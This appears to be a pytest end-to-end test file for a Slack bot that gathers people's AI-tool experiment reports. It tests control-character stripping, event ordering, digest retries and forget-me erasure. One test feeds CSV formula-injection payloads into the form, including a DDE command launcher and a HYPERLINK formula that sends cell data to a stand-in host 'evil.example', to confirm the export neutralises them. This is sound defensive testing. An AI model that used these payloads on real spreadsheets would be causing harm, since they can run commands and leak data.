"""Integrity end to end: nothing stale posted, nothing left behind, events in any order, no text
lost to the form, and exports that a spreadsheet cannot execute."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from datetime import timedelta
from pathlib import Path
from typing import Any

from sqlalchemy import text as sql

from bot.runtime import Runtime
from core.occurrence import SendKind
from core.weeks import WeekId
from fakeslack.driver import SlackDriver
from fakeslack.server import FakeSlack
from fakeslack.state import Message
from services import digests
from storage import digests as digest_store
from storage import experiments as repo
from storage import sends as send_store
from storage.db import Database
from tests.cli import run_cli
from tests.databases import column_names, table_names
from tests.e2e.conftest import ALICE, BOB, DANA, ROOT, FakeClock, channel_id, settle
from tests.e2e.helpers import (
    FRIDAY_1600_BERLIN,
    MONDAY_0800_UTC,
    a_week_of_sharing,
    add_long_failures,
    all_text,
    digest_messages,
    entries,
    form,
    install,
    leaders_ritual,
    tick,
)


async def prompt_thread(bot: Runtime, slack: FakeSlack, clock: FakeClock) -> tuple[str, str]:
    """The Leaders ritual asks on Monday; return #leaders and its prompt's ts."""
    await install(bot, leaders_ritual(slack))
    await tick(bot, clock, MONDAY_0800_UTC)
    leaders = channel_id(slack, "leaders")
    return leaders, slack.messages(leaders)[0].ts


# ---- exports and control characters (formula injection, NUL bytes) ----------------------


CONTROL = {chr(c) for c in range(32)} - {"\n", "\t"}


async def test_control_characters_are_never_stored_from_any_capture_path(
    bot: Runtime, driver: SlackDriver, slack: FakeSlack, clock: FakeClock, store: Database
) -> None:
    """NUL and other C0 controls (not newline or tab) are stripped from replies, /tried and the form."""
    leaders, prompt = await prompt_thread(bot, slack, clock)
    await driver.post_message(
        ALICE, leaders, "Claude: thread\x00 reply\x1b[31m red\x07\nsecond line", thread_ts=prompt
    )
    await driver.slash_command(ALICE, "Gemini: slash\x00 command\x08 entry")
    await driver.slash_command(ALICE, "")
    await settle(bot)
    await driver.view_submission(
        ALICE,
        driver.last_view(ALICE, "experiment_form"),
        form(tool="Cur\x00sor", summary="form\x01 entry\r\n\tindented", surprise="a\x00b"),
    )
    await settle(bot)
    stored = await entries(store)
    assert len(stored) == 3
    for exp in stored:
        for value in (exp.tool or "", exp.work, exp.summary, exp.surprise, exp.failure):
            assert not CONTROL & set(value), repr(value)
    summaries = sorted(exp.summary for exp in stored)
    assert any("thread reply[31m red\nsecond line" in s for s in summaries), summaries
    assert any("slash command entry" in s for s in summaries), summaries
    assert any(s == "form entry\n\tindented" for s in summaries), summaries


async def test_csv_export_neutralises_formulas(
    bot: Runtime, driver: SlackDriver, store: Database, database_url: str, tmp_path: Path
) -> None:
    """Cells starting with = + - @ tab or CR get a leading quote (OWASP), and every field is quoted."""
    await driver.slash_command(ALICE, "")
    await settle(bot)
    await driver.view_submission(
        ALICE,
        driver.last_view(ALICE, "experiment_form"),
        form(
            tool="=cmd|' /C calc'!A0",
            work="+1+1",
            summary='=HYPERLINK("http://evil.example/?d="&A1,"click")',
            surprise="@SUM(1,2)",
            failure="-2+3",
        ),
    )
    await settle(bot)
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT), "DATABASE_URL": database_url}
    code, out, err = await run_cli(env, tmp_path, "export", "--format", "csv")
    assert code == 0, err
    [row] = list(csv.DictReader(io.StringIO(out)))
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert row["summary"] == "'" + '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    assert row["work"] == "'+1+1"
    assert row["surprise"] == "'@SUM(1,2)"
    assert row["failure"] == "'-2+3"
    assert row["tool"].startswith("'=")
    assert all(line.startswith('"') for line in out.splitlines())  # every field quoted
    _, as_json, _ = await run_cli(env, tmp_path, "export", "--format", "json")
    assert json.loads(as_json)[0]["work"] == "+1+1"  # JSON is data, not a spreadsheet: unchanged


# ---- the form never shortens text the person did not touch -------------------------------


def as_shown(view: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """The values Slack submits for a modal nobody typed into: every field as it was shown."""
    values: dict[str, dict[str, Any]] = {}
    for block in view["blocks"]:
        element = block.get("element") or {}
        action = element.get("action_id")
        if block.get("type") != "input" or action is None:
            continue
        kind = element["type"]
        if kind == "plain_text_input":
            state: dict[str, Any] = {"value": element.get("initial_value") or None}
        elif kind == "static_select":
            state = {"selected_option": element.get("initial_option")}
        elif kind == "checkboxes":
            state = {"selected_options": element.get("initial_options", [])}
        else:
            continue
        values[block["block_id"]] = {action: {"type": kind, **state}}
    return values


async def test_changing_the_tool_of_a_long_reply_keeps_its_whole_text(
    bot: Runtime, driver: SlackDriver, slack: FakeSlack, clock: FakeClock, store: Database
) -> None:
    """A 5,000-character reply, its tool changed through the form: the text stays 5,000 long."""
    leaders, prompt = await prompt_thread(bot, slack, clock)
    story = " ".join(f"step {n} went fine." for n in range(400))[:5000]
    await driver.post_message(ALICE, leaders, f"Claude: {story}", thread_ts=prompt)
    await settle(bot)
    [before] = await entries(store)
    assert len(before.summary) > 3000
    await driver.block_action(ALICE, "experiment_edit", before.id)
    await settle(bot)
    view_id = driver.last_view(ALICE, "experiment_form")
    shown = slack.ws.views[view_id].view
    assert all(
        len(b["element"].get("initial_value", "")) <= 3000
        for b in shown["blocks"]
        if b.get("element", {}).get("type") == "plain_text_input"
    )
    values = as_shown(shown)
    values["tool"]["tool"]["value"] = "Gemini"
    reply = await driver.view_submission(ALICE, view_id, values)
    assert reply.status == 200
    await settle(bot)
    [after] = await entries(store)
    assert after.tool == "Gemini"
    assert (after.summary, after.work, after.surprise, after.failure) == (
        before.summary,
        before.work,
        before.surprise,
        before.failure,
    )


# ---- events applied in any order ---------------------------------------------------------


async def test_a_delete_that_arrives_before_its_message_wins(
    bot: Runtime, driver: SlackDriver, slack: FakeSlack, clock: FakeClock, store: Database
) -> None:
    """`message_deleted` first, then the message itself (a retried delivery): nothing is stored."""
    leaders, prompt = await prompt_thread(bot, slack, clock)
    message = slack.user_posts(ALICE, leaders, "Claude: posted by mistake", thread_ts=prompt)
    original = driver.message_event(leaders, message)
    await driver.event(driver.delete_event(leaders, message.ts))
    await settle(bot)
    await driver.event(original, retry_num=1)
    await settle(bot)
    assert await entries(store) == []
    assert not slack.calls("reactions.add")


async def test_an_original_redelivered_after_its_delete_stays_deleted(
    bot: Runtime, driver: SlackDriver, slack: FakeSlack, clock: FakeClock, store: Database
) -> None:
    """Captured, deleted, then the original arrives again under a new envelope: still gone."""
    leaders, prompt = await prompt_thread(bot, slack, clock)
    message, _ = await driver.post_message(ALICE, leaders, "Claude: soon deleted", thread_ts=prompt)
    original = driver.message_event(leaders, message)
    await settle(bot)
    assert len(await entries(store)) == 1
    await driver.delete_message(leaders, message.ts)
    await settle(bot)
    await driver.event(original)
    await settle(bot)
    assert await entries(store) == []


async def test_a_delete_during_capture_wins(
    bot: Runtime, driver: SlackDriver, slack: FakeSlack, clock: FakeClock, store: Database
) -> None:
    """The delete arrives while the reply is being captured (Slack slow to answer): nothing stays."""
    leaders, prompt = await prompt_thread(bot, slack, clock)
    hold = slack.hold("chat.getPermalink")
    message, _ = await driver.post_message(ALICE, leaders, "Claude: oops", thread_ts=prompt)
    await hold.arrived.wait()
    await driver.event(driver.delete_event(leaders, message.ts))
    hold.release()
    await settle(bot)
    assert await entries(store) == []


async def test_an_edit_that_arrives_before_its_message_is_applied(
    bot: Runtime, driver: SlackDriver, slack: FakeSlack, clock: FakeClock, store: Database
) -> None:
    """`message_changed` first, then the original message: the edited text is what is stored."""
    leaders, prompt = await prompt_thread(bot, slack, clock)
    message = slack.user_posts(ALICE, leaders, "Claude: first words", thread_ts=prompt)
    original = driver.message_event(leaders, message)
    await driver.event(driver.edit_event(leaders, message.ts, "Claude: second thoughts"))
    await settle(bot)
    await driver.event(original)
    await settle(bot)
    [exp] = await entries(store)
    assert "second thoughts" in exp.summary


async def test_an_edit_during_capture_is_applied(
    bot: Runtime, driver: SlackDriver, slack: FakeSlack, clock: FakeClock, store: Database
) -> None:
    """An edit 0.3 s after posting, while the reply is still being captured, is not lost."""
    leaders, prompt = await prompt_thread(bot, slack, clock)
    hold = slack.hold("chat.getPermalink")
    message, _ = await driver.post_message(ALICE, leaders, "Claude: typo hre", thread_ts=prompt)
    await hold.arrived.wait()
    await driver.event(driver.edit_event(leaders, message.ts, "Claude: typo here, fixed"))
    hold.release()
    await settle(bot)
    [exp] = await entries(store)
    assert "typo here, fixed" in exp.summary


async def test_the_newest_edit_wins_whatever_order_edits_arrive_in(
    bot: Runtime, driver: SlackDriver, slack: FakeSlack, clock: FakeClock, store: Database
) -> None:
    """Two edits delivered newest first: the older one, arriving last, changes nothing."""
    leaders, prompt = await prompt_thread(bot, slack, clock)
    message, _ = await driver.post_message(ALICE, leaders, "Claude: version one", thread_ts=prompt)
    await settle(bot)
    older = driver.edit_event(leaders, message.ts, "Claude: version two")
    newer = driver.edit_event(leaders, message.ts, "Claude: version three")
    await driver.event(newer)
    await settle(bot)
    await driver.event(older)
    await settle(bot)
    [exp] = await entries(store)
    assert "version three" in exp.summary


async def test_an_edit_after_a_delete_does_not_bring_it_back(
    bot: Runtime, driver: SlackDriver, slack: FakeSlack, clock: FakeClock, store: Database
) -> None:
    """Delete, then a late edit of the same message, then the original: nothing is stored."""
    leaders, prompt = await prompt_thread(bot, slack, clock)
    message = slack.user_posts(ALICE, leaders, "Claude: short-lived", thread_ts=prompt)
    original = driver.message_event(leaders, message)
    edit = driver.edit_event(leaders, message.ts, "Claude: edited then deleted")
    await driver.event(driver.delete_event(leaders, message.ts))
    await driver.event(edit)
    await driver.event(original)
    await settle(bot)
    assert await entries(store) == []


# ---- a stored digest never posts what changed since it was rendered ----------------------


def reply_of(slack: FakeSlack, channel: str, user: str) -> Message:
    return next(m for m in slack.messages(channel) if m.user == user and m.thread_ts)


async def make_private_through_the_form(
    bot: Runtime, driver: SlackDriver, slack: FakeSlack, store: Database, user: str
) -> None:
    """The person opens Edit on their entry and ticks "Keep private"."""
    [exp] = await entries(store, user)
    await driver.block_action(user, "experiment_edit", exp.id)
    await settle(bot)
    view_id = driver.last_view(user, "experiment_form")
    values = as_shown(slack.ws.views[view_id].view)
    values["private"]["private"]["selected_options"] = [{"value": "private"}]
    await driver.view_submission(user, view_id, values)
    await settle(bot)


async def forget_me(bot: Runtime, driver: SlackDriver, user: str) -> None:
    await driver.slash_command(user, "forget-me")
    await settle(bot)
    await driver.block_action(user, "forget_me_confirm", "confirm")
    await settle(bot)


async def test_a_digest_kept_after_a_failed_post_shows_only_what_is_still_shared(
    bot: Runtime, driver: SlackDriver, slack: FakeSlack, clock: FakeClock, store: Database
) -> None:
    """The post fails; then a reply is deleted, one made private, an author forgets themselves.

    The retry posts none of them, and credits none of their authors.
    """
    await a_week_of_sharing(bot, driver, slack, clock)
    digest_channel = channel_id(slack, "ai-digest")
    leaders = channel_id(slack, "leaders")
    slack.archive_channel(digest_channel)
    await tick(bot, clock, FRIDAY_1600_BERLIN)
    assert digest_messages(slack) == []
    await driver.delete_message(leaders, reply_of(slack, leaders, BOB).ts)
    await make_private_through_the_form(bot, driver, slack, store, DANA)
    await forget_me(bot, driver, ALICE)
    slack.ws.channels[digest_channel].is_archived = False
    result = await digests.post_digest(
        bot.deps, bot.client, leaders_ritual(slack), WeekId.parse("2026-W48")
    )
    assert result.failed is None
    text = all_text(digest_messages(slack))
    assert "Chen Chao" in text
    for gone in ("org chart", "Bob Brown", "silently", "Dana Diaz", "CLI flag", "Alice Adams"):
        assert gone not in text, gone
    assert "*1 experiment* from *1 person*" in text


async def test_a_digest_resumed_half_way_leaves_out_what_was_deleted_since(
    bot: Runtime, slack: FakeSlack, clock: FakeClock, store: Database
) -> None:
    """Part 1 is out, part 2 fails; an entry of a later part is deleted; the rest follows without it.

    Parts already posted stay as they are, and the numbering stays that of the main post.
    """
    ritual = await install(
        bot, leaders_ritual(slack, dm=False, reminder_weekday=None, reminder_at=None)
    )
    await tick(bot, clock, MONDAY_0800_UTC)
    await add_long_failures(store, ritual.id, 200)
    # A post answered 500 is in doubt, never re-sent blindly: it is looked for in Slack's
    # history at the next run at least 30 s later, and only then sent again.
    slack.fail_next("chat.postMessage", status=500, times=1, after=1)
    await tick(bot, clock, FRIDAY_1600_BERLIN)
    [main] = digest_messages(slack)  # the top post, which lists no entry
    assert _parts_labels(main) == []
    assert "failure 150 " not in all_text([main])
    async with store.transaction() as conn:
        await repo.delete_experiment(conn, "bulk150")
    await tick(bot, clock, FRIDAY_1600_BERLIN + timedelta(seconds=60))
    main, *rest = digest_messages(slack)
    text = all_text([main, *rest])
    assert "failure 150 " not in text
    assert all(f"failure {n} " in text for n in range(200) if n != 150)
    assert all(text.count(f"failure {n} ") == 1 for n in range(200) if n != 150)
    assert all(m.thread_ts == main.ts for m in rest)
    labels = [label for m in rest for label in _parts_labels(m)]
    total = int(labels[0].rsplit(" ", 1)[1])
    assert labels == [f"Thread part {n} of {total}" for n in range(1, total + 1)]


def _parts_labels(message: Message) -> list[str]:
    return re.findall(r"Thread part \d+ of \d+", all_text([message]))


# ---- forget-me leaves nothing behind -----------------------------------------------------


async def every_text_value(store: Database) -> list[tuple[str, str, str]]:
    """(table, column, value) for every non-empty text value in every table of the database."""
    found: list[tuple[str, str, str]] = []
    async with store.read() as conn:
        tables = await table_names(conn)
        for table in tables:
            columns = await column_names(conn, table)
            for row in await conn.execute(sql(f"SELECT * FROM {table}")):  # noqa: S608
                found.extend(
                    (table, column, value)
                    for column, value in zip(columns, row, strict=True)
                    if isinstance(value, str) and value
                )
    return found


async def test_forget_me_leaves_no_trace_in_any_table(
    bot: Runtime, driver: SlackDriver, slack: FakeSlack, clock: FakeClock, store: Database
) -> None:
    """After forget-me, no table and no column holds the person's id, name or words.

    Before: her replies, a kept edit, her profile, a skip, her Home opened, the audiences that name her, the
    ritual she created, the prompts and the failure notice sent to her, a stored digest.
    """
    await install(bot, leaders_ritual(slack, created_by=ALICE))
    await tick(bot, clock, MONDAY_0800_UTC)
    leaders = channel_id(slack, "leaders")
    prompt = slack.messages(leaders)[0].ts
    await driver.post_message(
        ALICE,
        leaders,
        "Tool: zebra-quokka-bot\nWhat happened: the zebra-quokka plan\nFailed: it invented a flag",
        thread_ts=prompt,
    )
    await driver.post_message(BOB, leaders, "Gemini: drafted the memo", thread_ts=prompt)
    unseen = slack.user_posts(ALICE, leaders, "Claude: zebra-quokka draft", thread_ts=prompt)
    await driver.event(driver.edit_event(leaders, unseen.ts, "Claude: zebra-quokka, edited"))
    await driver.block_action(ALICE, "ritual_skip_week", "r-leaders|2026-W49")
    await driver.slash_command(ALICE, "profile")
    await settle(bot)
    await driver.view_submission(
        ALICE, driver.last_view(ALICE, "profile_form"), form(job_function="engineering")
    )
    await driver.app_home_opened(ALICE)
    slack.archive_channel(channel_id(slack, "ai-digest"))
    await tick(bot, clock, FRIDAY_1600_BERLIN)
    await settle(bot)
    before = await every_text_value(store)
    [shared] = await entries(store)
    assert any(shared.id in value for table, _, value in before if table == "digests")
    assert any("zebra-quokka-bot" in value for table, _, value in before if table == "experiments")
    tables_before = {table for table, _, value in before if ALICE in value or "zebra" in value}
    assert {"experiments", "profiles", "skips", "occurrences", "rituals", "sends"} <= tables_before
    assert "home_viewers" in tables_before
    assert "message_changes" in tables_before
    await forget_me(bot, driver, ALICE)
    left = [
        (table, column, value)
        for table, column, value in await every_text_value(store)
        if ALICE in value or "zebra-quokka" in value or "Alice Adams" in value or shared.id in value
    ]
    assert left == []
    bob = await entries(store, BOB)
    assert len(bob) == 1  # everyone else's data is untouched


async def test_a_repeated_reply_makes_no_slack_call_and_a_new_one_no_lookup(
    bot: Runtime, driver: SlackDriver, slack: FakeSlack, clock: FakeClock, store: Database
) -> None:
    """A reply in a prompt's thread costs no `users.info` (the prompt's week places it), and
    the same message delivered again in a new envelope is recognised before any Slack call."""
    leaders, prompt = await prompt_thread(bot, slack, clock)
    lookups = len(slack.calls("users.info"))
    message = slack.user_posts(
        ALICE, leaders, "Claude: drafted the notes, it worked", thread_ts=prompt
    )
    event = driver.message_event(leaders, message)
    await driver.event(event)
    await settle(bot)
    assert len(await entries(store)) == 1
    assert len(slack.calls("users.info")) == lookups
    calls = len(slack.calls())
    await driver.event(event)  # a new event id: not the inbox's key, the same message
    await settle(bot)
    assert len(await entries(store)) == 1
    assert len(slack.calls()) == calls


async def test_a_digest_half_posted_by_the_earlier_release_is_finished_with_real_content(
    bot: Runtime, driver: SlackDriver, slack: FakeSlack, clock: FakeClock, store: Database
) -> None:
    """Its main post is out; its kept thread part uses the old keys; this release finishes it."""
    await a_week_of_sharing(bot, driver, slack, clock)
    assert bot.deps is not None
    assert bot.client is not None
    [alice] = await entries(store, ALICE)
    [bob] = await entries(store, BOB)
    week = WeekId.parse("2026-W48")
    digest_channel = channel_id(slack, "ai-digest")
    copilot = hashlib.sha256(b"GitHub Copilot").hexdigest()[:16]
    old_layout = [
        {
            "units": [
                {"kind": "header", "keys": ["header"]},
                {"kind": "section", "keys": ["headline"]},
            ]
        },
        {
            "units": [
                {"kind": "section", "keys": ["surprises"]},
                {"kind": "section", "keys": [f"surprise:{bob.id}"]},
                {"kind": "section", "keys": ["failures"]},
                {"kind": "section", "keys": [f"group:{copilot}", f"failure:{alice.id}"]},
                {"kind": "section", "keys": ["credit"]},
            ]
        },
    ]
    main = await bot.client.chat_postMessage(channel=digest_channel, text="(the old main post)")
    async with store.transaction() as conn:
        await digest_store.keep_parts(conn, "r-leaders", week, old_layout, now=clock())
        claim = await send_store.claim_send(
            conn,
            kind=SendKind.DIGEST,
            ritual_id="r-leaders",
            week=week,
            recipient=f"{digest_channel}#1",
            now=clock(),
            lease=bot.deps.lease.length,
        )
        assert claim is not None
        await send_store.mark_sent(
            conn, claim.key, channel_id=digest_channel, ts=str(main["ts"]), now=clock()
        )
    result = await digests.post_digest(bot.deps, bot.client, leaders_ritual(slack), week)
    assert (result.failed, result.posted, result.total) == (None, 1, 2)
    _, part = digest_messages(slack)
    text = all_text([part])
    assert part.thread_ts == main["ts"]
    assert "withdrawn" not in text
    assert "org chart" in text
    assert "invented a CLI flag" in text
    assert "Alice Adams" in text
